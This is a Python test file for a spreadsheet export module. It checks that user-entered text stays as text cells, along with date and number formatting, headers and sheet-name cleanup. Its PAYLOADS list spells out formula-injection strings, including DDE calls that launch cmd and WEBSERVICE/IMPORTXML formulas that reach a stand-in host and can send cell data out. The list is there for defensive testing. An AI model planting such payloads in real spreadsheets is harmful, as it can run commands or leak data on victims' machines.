"""Workbooks: what people wrote stays text, reopened with the library that others read them with."""

from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from app.core import sheets

COLUMNS = [sheets.Column("Action", 40), sheets.Column("Due", 12, sheets.DAY), sheets.Column("Cost", 14, sheets.KRONER)]

# What spreadsheets have been made to run, and what only looks like it and must come through as it was written.
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://prove.example","x")', '=WEBSERVICE("http://prove.example")',
    '=IMPORTXML(CONCAT("http://prove.example/",A1),"//a")', "=2+5+cmd|' /C notepad'!'A1'", '=DDE("cmd";"/C calc";"x")',
    "=SUM(1,1)*cmd|'/C calc'!A0", "=1", "==1", "=-1", "=+1", "=A1", "=", "= 1", "={1}", "=Sheet1!A1",
    "+1+1", "+cmd|' /C calc'!A0", "+47 22 33 44 55", "-1+1", "-2+3+cmd|' /C calc'!A0", "-12", "- punkt", "@SUM(1+1)*cmd|' /C calc'!A0",
    "@kari", "|calc", "\t=1+1", "\n=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', "%0A=1+1", ";=1+1", ",=1+1", "#REF!", "#N/A", "TRUE", "1/2/2026", "1e5", "00123",
    "<f>1+1</f>", "_x003D_1+1", "Čáhci 🦺",
]  # fmt: skip


def reopened(rows, columns=COLUMNS, name="Plan"):
    return load_workbook(BytesIO(sheets.workbook(name, columns, rows))).active


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_somebody_wrote_is_text_and_never_a_formula(text):
    made = sheets.workbook("Plan", COLUMNS, [[text, None, None]])
    cell = load_workbook(BytesIO(made)).active["A2"]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")
    with ZipFile(BytesIO(made)) as parts:
        assert b"<f>" not in b"".join(
            parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/")
        )


def test_days_are_days_and_sums_are_numbers():
    sheet = reopened([["Mål støy", date(2026, 12, 24), 12_500]])
    assert (sheet["B2"].value.date(), sheet["B2"].is_date) == (date(2026, 12, 24), True)
    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C2"].number_format) == (12_500, "n", "#,##0")


def test_heads_stay_in_sight_and_columns_are_as_wide_as_asked():
    sheet = reopened([["a", None, None]])
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == ["Action", "Due", "Cost"]
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width == 40
    assert sheet.auto_filter.ref == "A1:C2"


def test_an_empty_cell_is_empty():
    sheet = reopened([["", None, None]])
    assert sheet["B2"].value is None
    assert sheet["A2"].value in (None, "")


def test_what_no_workbook_can_hold_is_left_out_and_the_rest_kept():
    sheet = reopened([["a\x00b\x0bc\ud800d", None, None], ["å" * 40_000, None, None]])
    assert sheet["A2"].value == "abcd"
    assert sheet["A3"].value == "å" * 32_767


@pytest.mark.parametrize("name", ["Utviklingsplan", "a/b[c]:d*e?f\\g'", "x" * 60, "", "'"])
def test_any_name_becomes_a_sheets_name(name):
    title = reopened([], name=name).title
    assert 1 <= len(title) <= 31
    assert not set("[]:*?/\\'") & set(title)
